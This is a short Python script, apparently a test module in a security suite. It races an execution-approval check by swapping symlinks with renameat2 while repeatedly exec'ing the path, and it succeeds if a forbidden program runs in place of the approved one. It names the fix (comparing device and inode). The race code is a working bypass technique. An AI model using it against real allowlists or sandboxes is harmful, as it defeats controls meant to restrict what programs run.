"""The approved program is replaced on disk by another one while it is being executed."""

import os
import threading
import time

from attack import LIBC, SECONDS, WORK, call, main

FORBIDDEN, RENAME_EXCHANGE = 42, 2
PROMISE = "the file that was judged is the file that runs"
CONTROL = "the forbidden program runs"
ADVICE = "report it: device and inode of what runs are compared"


def swap() -> None:
    while True:
        try:
            call("renameat2", -100, f"{WORK}/bin/swap", -100, f"{WORK}/bin/link", RENAME_EXCHANGE)
        except OSError:
            continue


def attempt() -> bool:
    os.symlink("tool1", f"{WORK}/bin/swap")
    os.symlink("tool0", f"{WORK}/bin/link")
    threading.Thread(target=swap, daemon=True).start()
    end = time.monotonic() + SECONDS
    while time.monotonic() < end:
        child = os.fork()
        if child == 0:
            LIBC.execve(f"{WORK}/bin/swap".encode(), None, None)
            os._exit(1)
        status = os.waitpid(child, 0)[1]
        if os.WIFEXITED(status) and os.WEXITSTATUS(status) == FORBIDDEN:
            return True
    return False


main(attempt)
